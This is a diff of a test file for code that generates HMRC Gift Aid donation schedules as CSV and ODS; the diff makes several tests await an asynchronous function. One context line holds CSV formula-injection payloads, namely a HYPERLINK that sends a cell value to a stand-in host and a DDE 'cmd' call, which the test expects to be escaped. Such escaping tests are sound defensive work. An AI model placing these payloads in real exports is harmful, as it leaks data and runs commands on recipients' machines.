@@ -120,11 +120,11 @@ describe('schedule files', () => {
     expect(csv.split('\r\n')[1]).toBe(`Mrs,"'=HYPERLINK(""//ev.il/""&D2,""x"")",'+cmd|' /C calc'!A0,'@SUM(1),SW1A 1AA,,,05/04/26,10.00`);
   });
 
-  it("writes HMRC's sheet: its name, Box 1, Box 2, the headings on row 23 and the rows from 25, where the template has them", () => {
+  it("writes HMRC's sheet: its name, Box 1, Box 2, the headings on row 23 and the rows from 25, where the template has them", async () => {
     const rows = Array.from({ length: ROWS_PER_CLAIM }, (_, index) => row({ donationDate: index ? '2026-04-05' : '2026-04-02', amountMinor: 1000 + index }));
     rows[1] = row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', amountMinor: 2500 });
-    const ods = scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 });
-    expect(scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 }).equals(ods)).toBe(true);
+    const ods = await scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 });
+    expect((await scheduleOds({ rows, earliestDonationDate: '2026-03-30', overclaimedTaxMinor: 638 })).equals(ods)).toBe(true);
     const book = XLSX.read(ods, { type: 'buffer', cellDates: true });
     expect(book.SheetNames).toEqual(template.SheetNames);
     const sheet = book.Sheets[template.SheetNames[0]];
@@ -153,11 +153,11 @@ describe('schedule files', () => {
     expect(sheet.C1025).toBeUndefined();
   });
 
-  it('leaves Box 1 and Box 2 blank when the claim has no donations or no adjustment, and refuses more than 1,000 rows', () => {
-    const sheet = XLSX.read(scheduleOds({ rows: [], earliestDonationDate: null, overclaimedTaxMinor: 0 }), { type: 'buffer' }).Sheets.R68GAD_V1_00_0_EN;
+  it('leaves Box 1 and Box 2 blank when the claim has no donations or no adjustment, and refuses more than 1,000 rows', async () => {
+    const sheet = XLSX.read(await scheduleOds({ rows: [], earliestDonationDate: null, overclaimedTaxMinor: 0 }), { type: 'buffer' }).Sheets.R68GAD_V1_00_0_EN;
     expect(sheet.D13).toBeUndefined();
     expect(sheet.D17).toBeUndefined();
-    expect(() => scheduleOds({ rows: Array.from({ length: 1001 }, () => row()), earliestDonationDate: null, overclaimedTaxMinor: 0 })).toThrow(/at most 1000 rows/);
+    await expect(scheduleOds({ rows: Array.from({ length: 1001 }, () => row()), earliestDonationDate: null, overclaimedTaxMinor: 0 })).rejects.toThrow(/at most 1000 rows/);
   });
 });
 
